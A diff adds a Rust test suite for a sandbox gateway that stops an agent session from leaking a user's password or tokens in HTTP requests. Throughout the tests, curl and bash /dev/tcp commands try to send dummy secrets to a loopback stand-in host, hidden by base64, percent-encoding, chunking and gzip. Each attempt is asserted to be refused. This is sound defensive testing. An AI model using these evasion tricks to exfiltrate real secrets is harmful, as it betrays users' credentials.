@@ -1,0 +1,407 @@
+//! Requests that the gateway sees pass the session's guard: what the session keeps, and secrets, leave for hosts
+//! that may read them and for no other.
+
+use std::fs;
+use std::io::{Read as _, Write as _};
+use std::net::{TcpListener, TcpStream};
+use std::process::Stdio;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::thread::JoinHandle;
+
+use serde_json::{Value, json};
+
+use crate::guarded::{guard, guarded, hear, opened, say};
+use crate::support::processes::{self, eventually, kill, part, signal};
+use crate::support::stand_in::{Authority, StandIn, files_with, holds};
+use crate::support::{Finished, World};
+use crate::wipe::receipt;
+
+/// What a user tells an agent, and the same where nobody would look for it.
+const VALUE: &str = "k3Yq-Zt91-pLm4-wXyZ";
+const HIDDEN: &str = "azNZcS1adDkxLXBMbTQtd1h5Wg==";
+const PERCENT: &str = "%6B3Yq%2DZt91%2DpLm4%2DwXyZ";
+/// A token that looks like one.
+const TOKEN: &str = "glpat-Zx71kdMm2x90Ttq3Wv8L";
+
+/// A host on the loopback that keeps what each connection says in plaintext, and answers whole requests.
+struct Host {
+    port: u16,
+    heard: Arc<Mutex<Vec<Vec<u8>>>>,
+    over: Arc<AtomicBool>,
+    serving: Option<JoinHandle<()>>,
+}
+
+impl Host {
+    fn new() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let (heard, over) = (Arc::<Mutex<Vec<Vec<u8>>>>::default(), Arc::<AtomicBool>::default());
+        let (list, ends) = (Arc::clone(&heard), Arc::clone(&over));
+        let serving = std::thread::spawn(move || {
+            while let Ok((stream, _)) = listener.accept() {
+                if ends.load(Ordering::SeqCst) {
+                    break;
+                }
+                let list = Arc::clone(&list);
+                std::thread::spawn(move || hears(stream, &list));
+            }
+        });
+        Self { port, heard, over, serving: Some(serving) }
+    }
+
+    fn rule(&self) -> String {
+        format!("host.sessile:{}", self.port)
+    }
+
+    fn url(&self, target: &str) -> String {
+        format!("http://host.sessile:{}{target}", self.port)
+    }
+
+    /// What each connection has said so far, those that said nothing aside.
+    fn heard(&self) -> Vec<String> {
+        let heard = self.heard.lock().unwrap();
+        heard
+            .iter()
+            .filter(|said| !said.is_empty())
+            .map(|said| String::from_utf8_lossy(said).into_owned())
+            .collect()
+    }
+}
+
+impl Drop for Host {
+    fn drop(&mut self) {
+        self.over.store(true, Ordering::SeqCst);
+        drop(TcpStream::connect(("127.0.0.1", self.port)));
+        let _ = self.serving.take().map(JoinHandle::join);
+    }
+}
+
+fn hears(mut stream: TcpStream, heard: &Mutex<Vec<Vec<u8>>>) {
+    let place = {
+        let mut heard = heard.lock().unwrap();
+        heard.push(Vec::new());
+        heard.len() - 1
+    };
+    let mut bytes = vec![0; 64 << 10];
+    while let Ok(count @ 1..) = stream.read(&mut bytes) {
+        let said = {
+            let mut heard = heard.lock().unwrap();
+            heard[place].extend_from_slice(&bytes[..count]);
+            heard[place].clone()
+        };
+        if is_whole(&said) {
+            let _ =
+                stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n");
+        }
+    }
+}
+
+/// Whether a request is complete.
+fn is_whole(said: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(said);
+    let Some((head, body)) = text.split_once("\r\n\r\n") else { return false };
+    let head = head.to_lowercase();
+    let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
+    match head.contains("transfer-encoding: chunked") {
+        true => body.ends_with("0\r\n\r\n"),
+        false => body.len() >= length.unwrap_or(0),
+    }
+}
+
+/// A session with the roles of a desk, in which the user has told the agent a value, and these hosts.
+fn told(world: &World, more: &[&str]) -> String {
+    let id = opened(world, "desk", more);
+    say(world, "User", "Agent", "ask", &format!("{{\"password\": \"{VALUE}\"}}"));
+    assert!(hear(world, "Agent").contains(VALUE));
+    id
+}
+
+fn curl(world: &World, arguments: &[&str]) -> Finished {
+    let all = ["exec", "desk", "--", "curl", "-sS", "-i", "--max-time", "60"];
+    world.sessile(&[&all[..], arguments].concat())
+}
+
+fn passes(world: &World, arguments: &[&str]) {
+    let said = curl(world, arguments).succeeded();
+    assert!(said.contains("200 OK"), "{arguments:?}: {said}");
+}
+
+/// Refused, and nothing is said of why.
+fn refused(world: &World, arguments: &[&str]) {
+    let said = curl(world, arguments).succeeded();
+    assert!(
+        said.contains("403 Forbidden") && said.contains("refused by policy. Do not retry"),
+        "{arguments:?}: {said}"
+    );
+    for word in ["password", "token", "taint", "secret", "guard"] {
+        assert!(!said.contains(word), "{said}");
+    }
+}
+
+/// The entries of the audit that are about requests.
+fn decided(world: &World, session: &str) -> Vec<Value> {
+    let audit = world.json(&["audit", session, "--json"]);
+    let is_request =
+        |entry: &&Value| entry["label"].as_str().is_some_and(|label| label.starts_with("request "));
+    audit.as_array().unwrap().iter().filter(is_request).cloned().collect()
+}
+
+fn question(world: &World) -> Value {
+    eventually("somebody is asked", || {
+        world.json(&["questions", "--json"]).as_array().unwrap().first().cloned()
+    })
+}
+
+/// A script that sends a body in chunks, each by itself, and prints the answer.
+fn chunks(port: u16, parts: &[&str]) -> String {
+    let sent: String =
+        parts.iter().map(|part| format!("printf '%s\\r\\n' '{:x}' '{part}' >&3\n", part.len())).collect();
+    format!(
+        "exec 3<>/dev/tcp/host.sessile/{port}\n\
+         printf 'POST / HTTP/1.1\\r\\nHost: host.sessile:{port}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' >&3\n\
+         {sent}printf '0\\r\\n\\r\\n' >&3\ncat <&3"
+    )
+}
+
+for_root_and_user! {
+    fn what_was_said_in_a_channel_leaves_with_no_request(world) {
+        let host = Host::new();
+        let id = told(world, &["--allow", &host.rule()]);
+        let shown = guarded(world);
+        assert!(shown["guarded"].to_string().contains("requests of apps: HTTP/1 in plaintext"), "{shown}");
+        assert!(shown["blind"].to_string().contains("other TLS, WebSockets"), "{shown}");
+        passes(world, &[&host.url("/?q=1"), "-d", "all is well"]);
+        assert!(decided(world, &id).is_empty(), "what has nothing of it is not written");
+        for arguments in [
+            &[&host.url(&format!("/?q={VALUE}"))[..]],
+            &[&host.url(&format!("/?q={PERCENT}"))],
+            &[&host.url(&format!("/{HIDDEN}"))],
+            &[&host.url("/"), "-H", &format!("X-Note: {VALUE}")],
+            &[&host.url("/"), "-H", &format!("Authorization: Bearer {VALUE}")],
+            &[&host.url("/"), "-H", &format!("Cookie: a={HIDDEN}")],
+            &[&host.url("/"), "-d", &format!("note={VALUE}")],
+            &[&host.url("/"), "-d", &format!("{{\"note\": \"{HIDDEN}\"}}")],
+            &[&host.url("/"), "-d", &format!("note={PERCENT}"), "-H", "Transfer-Encoding: chunked"],
+        ] as [&[&str]; 9] {
+            refused(world, arguments);
+        }
+        // In chunks, each of which says nothing.
+        let (one, other) = VALUE.split_at(7);
+        for parts in [vec![one, other], vec![&HIDDEN[..9], &HIDDEN[9..]]] {
+            let said = world.sessile(&["exec", "desk", "--", "bash", "-c", &chunks(host.port, &parts)]).out;
+            assert!(String::from_utf8_lossy(&said).contains("403 Forbidden"), "{parts:?}");
+        }
+        let clean = world.sessile(&["exec", "desk", "--", "bash", "-c", &chunks(host.port, &["all ", "is well"])]);
+        assert!(clean.succeeded().contains("200 OK"));
+        // Compressed, and so that nobody here sees it.
+        let packed = "printf '%s' '{\"a\": \"VALUE\"}' | CODE | curl -sS -i -H 'Content-Encoding: NAME' --data-binary @- URL";
+        let packed = |value: &str, code: &str, name: &str| {
+            let script = packed.replace("VALUE", value).replace("CODE", code).replace("NAME", name);
+            let script = script.replace("URL", &host.url("/"));
+            world.must(&["exec", "desk", "--", "bash", "-c", &script])
+        };
+        assert!(packed(VALUE, "gzip", "gzip").contains("403 Forbidden"));
+        assert!(packed("all is well", "cat", "br").contains("403 Forbidden"));
+        assert!(packed("all is well", "gzip", "gzip").contains("200 OK"));
+        let heard = host.heard();
+        let whole: Vec<&String> = heard.iter().filter(|said| is_whole(said.as_bytes()) && !said.contains("br\r\n")).collect();
+        assert_eq!(whole.len(), 3, "{heard:#?}");
+        for said in &heard {
+            for value in [VALUE, HIDDEN, PERCENT, one, other] {
+                assert!(!said.contains(value), "{said}");
+            }
+        }
+        // It is written, counted, and said to nobody inside.
+        let entries = decided(world, &id);
+        assert_eq!(entries.len(), 13, "{entries:#?}");
+        assert!(entries.iter().all(|entry| entry["effect"] == "reject" && entry["by"] == "app:main"), "{entries:#?}");
+        let shown = guarded(world);
+        assert_eq!(shown["refused"], 13, "{shown}");
+        assert!(shown["risk"].as_u64().unwrap() > 20, "{shown}");
+        let net = world.json(&["net", "desk", "--json"]).to_string();
+        assert!(net.contains("a request was not sent: refused by policy"), "{net}");
+    }
+
+    fn a_secret_is_the_first_hosts_that_it_authenticates_at(world) {
+        let authority = Authority::new(world, "world");
+        let [first, other] = [(); 2].map(|()| StandIn::new(&authority, "host.sessile"));
+        let rules = [&first, &other].map(|host| format!("host.sessile:{}", host.port));
+        let [to_first, to_other] = [&first, &other].map(|host| format!("https://host.sessile:{}/", host.port));
+        world.must(&[
+            "run", "--detach", "--name", "desk", "--upstream-ca", authority.path(),
+            "--allow", &rules[0], "--intercept", &rules[0], "--allow", &rules[1], "--intercept", &rules[1],
+            "--", "sleep", "infinity",
+        ]);
+        let id = world.show("desk")["id"].as_str().unwrap().to_owned();
+        assert!(guarded(world)["guarded"].to_string().contains(&rules[1]), "{}", guarded(world));
+        assert!(guard(world, &id).is_none(), "nothing was sent");
+        let bearer = format!("Authorization: Bearer {TOKEN}");
+        // Where it stands is not where it authenticates.
+        refused(world, &[&to_first, "-d", TOKEN]);
+        refused(world, &[&to_first, "-H", &format!("X-Note: {TOKEN}")]);
+        refused(world, &[&format!("{to_first}?key={TOKEN}")]);
+        passes(world, &[&to_first, "-H", &bearer]);
+        passes(world, &[&to_first, "-H", &bearer, "-d", TOKEN]);
+        refused(world, &[&to_other, "-H", &bearer]);
+        refused(world, &[&to_other, "-d", TOKEN]);
+        // Nor is one that looks like nothing anybody else's.
+        let opaque = "X-Api-Key: w8Zq71kdMm2x90Ttq3";
+        passes(world, &[&to_other, "-H", opaque]);
+        refused(world, &[&to_first, "-H", opaque]);
+        // A guard and a keeper that die change nothing of it.
+        kill(guard(world, &id).unwrap().pid);
+        refused(world, &[&to_other, "-H", &bearer]);
+        kill(part(world, "keeper", &id).unwrap());
+        refused(world, &[&to_other, "-H", &bearer]);
+        passes(world, &[&to_first, "-H", &bearer]);
+        assert_eq!((first.heard().len(), other.heard().len()), (3, 1));
+        let effects: Vec<Value> = decided(world, &id).iter().map(|entry| entry["effect"].clone()).collect();
+        assert_eq!(effects.iter().filter(|effect| *effect == "pass").count(), 2, "{effects:?}");
+    }
+
+    fn what_was_said_leaves_for_a_host_that_somebody_allows(world) {
+        let host = Host::new();
+        world.write("rules/guard.cedar", "@id(\"all\") permit (principal, action == Action::\"message\", resource);
+            @id(\"requests\") permit (principal, action == Action::\"send\", resource);
+            @id(\"leaks\") @effect(\"RequireConfirmation\") permit (principal, action == Action::\"send\", resource)
+            when { context.confidentiality >= 3 && !context.withinReaders };");
+        let id = told(world, &["--policy", "rules", "--allow", &host.rule()]);
+        let url = host.url("/");
+        let body = format!("password={VALUE}");
+        let send = ["exec", "desk", "--", "curl", "-sS", "-i", &url, "-d", &body];
+        let waiting = world.start(&send, Stdio::null());
+        let asked = question(world);
+        let line = &asked["line"];
+        assert_eq!((&line["from"], &line["by"], &line["to"]), (&"main".into(), &"app:main".into(), &host.rule().into()));
+        assert_eq!((&line["label"], &line["policies"]), (&"request body".into(), &json!(["leaks"])));
+        assert!(line["found"].to_string().contains(VALUE) && line["found"].to_string().contains("User"), "{line}");
+        assert!(host.heard().is_empty(), "nothing of it is sent before");
+        let number = asked["id"].as_str().unwrap();
+        world.sessile(&["answer", number, "allow", "--always"]).refused_with(64, &["by itself"]);
+        world.must(&["answer", number, "deny", "--why", "not there"]);
+        assert!(waiting.finish().succeeded().contains("403 Forbidden"));
+        // Whoever leaves takes the question along.
+        let waiting = world.start(&send, Stdio::null());
+        question(world);
+        kill(guard(world, &id).unwrap().pid);
+        eventually("nobody is asked any more", || (world.json(&["questions", "--json"]) == json!([])).then_some(()));
+        assert!(waiting.finish().succeeded().contains("503 Service Unavailable"));
+        let waiting = world.start(&send, Stdio::null());
+        world.must(&["answer", question(world)["id"].as_str().unwrap(), "allow"]);
+        assert!(waiting.finish().succeeded().contains("200 OK"));
+        assert!(host.heard().last().unwrap().ends_with(&body));
+        // From then on it may read it.
+        passes(world, &[&host.url(&format!("/?q={VALUE}"))]);
+        let told = world.must(&["audit", "desk"]);
+        assert!(told.contains("request body") && told.contains("not there"), "{told}");
+    }
+
+    fn a_credential_is_known_to_the_guard(world) {
+        let authority = Authority::new(world, "world");
+        let (owner, host) = (StandIn::new(&authority, "host.sessile"), Host::new());
+        let credential = format!("host.sessile:{}=Authorization:bearer:env:API_TOKEN", owner.port);
+        let mut command = world.command(&[
+            "run", "--detach", "--name", "desk", "--credential", &credential, "--upstream-ca", authority.path(),
+            "--allow", &host.rule(), "--", "sleep", "infinity",
+        ]);
+        command.env("API_TOKEN", VALUE);
+        world.run(command).succeeded();
+        let to_owner = format!("https://host.sessile:{}/", owner.port);
+        passes(world, &[&to_owner]);
+        // It has told somebody inside, who tells nobody else.
+        refused(world, &[&host.url("/"), "-d", HIDDEN]);
+        passes(world, &[&to_owner, "-d", VALUE]);
+        assert!(host.heard().is_empty());
+    }
+
+    fn a_guard_that_dies_or_hangs_within_a_body_lets_nothing_through(world) {
+        let host = Host::new();
+        let id = told(world, &["--allow", &host.rule()]);
+        // Half of a body with the begin of something at its end, then the rest once a file is there.
+        let upload = |number: usize, (one, other): (&str, &str)| {
+            let port = host.port;
+            let length = 80_000 + one.len() + other.len();
+            let script = format!(
+                "exec 3<>/dev/tcp/host.sessile/{port}\n\
+                 printf 'POST /{number} HTTP/1.1\\r\\nHost: host.sessile:{port}\\r\\nContent-Length: {length}\\r\\n\\r\\n' >&3\n\
+                 (head -c 40000 /dev/zero | tr '\\0' x; printf '%s' '{one}') >&3\n\
+                 until test -e /tmp/{number}; do sleep 0.05; done\n\
+                 (printf '%s' '{other}'; head -c 40000 /dev/zero | tr '\\0' y) >&3\ncat <&3"
+            );
+            let uploading = world.start(&["exec", "desk", "--", "bash", "-c", &script], Stdio::null());
+            eventually("some of the body has come", || {
+                host.heard().get(number).filter(|said| said.len() > 10_000).map(drop)
+            });
+            uploading
+        };
+        let goes_on = |number: usize| world.must(&["exec", "desk", "--", "touch", &format!("/tmp/{number}")]);
+        // The next guard is shown what was kept back, and knows the same.
+        let uploading = upload(0, VALUE.split_at(9));
+        kill(guard(world, &id).unwrap().pid);
+        goes_on(0);
+        let answer = uploading.finish();
+        assert!(String::from_utf8_lossy(&answer.out).contains("403 Forbidden"), "{}", answer.text());
+        let uploading = upload(1, "all is well".split_at(5));
+        kill(guard(world, &id).unwrap().pid);
+        goes_on(1);
+        assert!(uploading.finish().succeeded().contains("200 OK"));
+        // One that is stopped says nothing: what it was shown is refused.
+        let uploading = upload(2, ("", ""));
+        let stopped = guard(world, &id).unwrap();
+        signal(stopped.pid, rustix::process::Signal::STOP);
+        goes_on(2);
+        let answer = uploading.finish();
+        assert!(String::from_utf8_lossy(&answer.out).contains("503 Service Unavailable"), "{}", answer.text());
+        let heard = host.heard();
+        assert!(heard.len() == 3 && is_whole(heard[1].as_bytes()) && heard[1].contains("xall is welly"));
+        for said in [&heard[0], &heard[2]] {
+            assert!(said.len() < 41_000 && !said.contains('y') && !said.contains(&VALUE[..9]), "{}", said.len());
+        }
+        passes(world, &[&host.url("/")]);
+        refused(world, &[&host.url("/"), "-d", VALUE]);
+        assert!(!stopped.runs(), "it is ended where it says nothing");
+    }
+
+    fn nothing_of_a_request_stays_anywhere(world) {
+        let host = Host::new();
+        let run = ["run", "--detach", "--name", "desk", "--allow", &host.rule(), "--", "sleep", "infinity"];
+        world.must(&run);
+        let id = world.show("desk")["id"].as_str().unwrap().to_owned();
+        assert!(receipt_room_only(world, &id), "nothing was sent, so nothing is written");
+        let kept = "Tq7vZx3mWk9Lr2";
+        let bearer = format!("Authorization: Bearer {kept}");
+        passes(world, &[&host.url("/"), "-H", &bearer]);
+        refused(world, &[&host.url("/"), "-d", &format!("here it is: {TOKEN}")]);
+        let guard = guard(world, &id).unwrap();
+        let values = [kept, TOKEN, "here it is"];
+        let seen = |folder: &std::path::Path| {
+            let found = |value: &&&str| !files_with(folder, value.as_bytes()).is_empty();
+            values.iter().filter(found).count()
+        };
+        assert_eq!(seen(&world.state()) + seen(&world.runtime()), 0);
+        // Parts of this session; beside it others run whose callers say such values.
+        let runtime = world.runtime();
+        for pid in processes::all().into_keys() {
+            let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            if pid == guard.pid || holds(&line, runtime.as_os_str().as_encoded_bytes()) {
+                assert!(values.iter().all(|value| !holds(&line, value.as_bytes())));
+            }
+        }
+        let audit = fs::read(world.state().join("sessions").join(&id).join("audit")).unwrap();
+        assert!(!holds(&audit, b"host.sessile"), "a host's name may be what somebody wants to tell");
+        assert!(!world.must(&["audit", "desk"]).contains(kept));
+        world.must(&["end", "desk", "--grace", "1s"]);
+        assert!(!guard.runs());
+        let told = receipt(world, &id)["guard"].clone();
+        assert_eq!((&told["ended"], &told["entries"]), (&true.into(), &2.into()), "{told}");
+        assert!(told["overwritten"].as_u64().unwrap() > 0);
+        assert!(world.must(&["audit", &id, "--verify"]).contains("2"));
+        assert_eq!(seen(&world.state()), 0);
+    }
+}
+
+/// Whether a session has no audit yet.
+fn receipt_room_only(world: &World, id: &str) -> bool {
+    !world.state().join("sessions").join(id).join("audit").exists()
+}
